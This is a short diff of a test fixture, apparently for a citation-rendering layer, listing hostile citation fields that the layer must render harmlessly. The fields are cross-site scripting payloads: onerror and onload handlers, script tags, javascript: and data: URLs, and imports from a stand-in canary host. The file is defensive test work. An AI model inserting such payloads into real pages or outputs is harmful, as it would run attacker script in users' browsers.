@@ -10,7 +10,8 @@ from app.ports import Citation, Cited, StopSignal
 MARK = "canary.example.test"
 """The host that hostile texts point to: a request to it, or a script that speaks of it, is a break-in."""
 SOURCES = (
-    Citation("<img src=x onerror=window.pwned=1>", "javascript:window.pwned=2", "<script>window.pwned=3</script>"),
+    Citation("<img src=x onerror=window.pwned=1>", f"https://{MARK}/%22%3E", "<script>window.pwned=3</script>"),
+    Citation("Script", "javascript:window.pwned=2", "[a](javascript:window.pwned=4)"),
     Citation("Data", f"data:text/html,<script src=//{MARK}></script>", "![a](https://canary.example.test/a.png)"),
     Citation("Honest & \u202egninraw", f"https://{MARK}/page?a=1&b=2#part", f'<svg onload=import("//{MARK}")>'),
 )
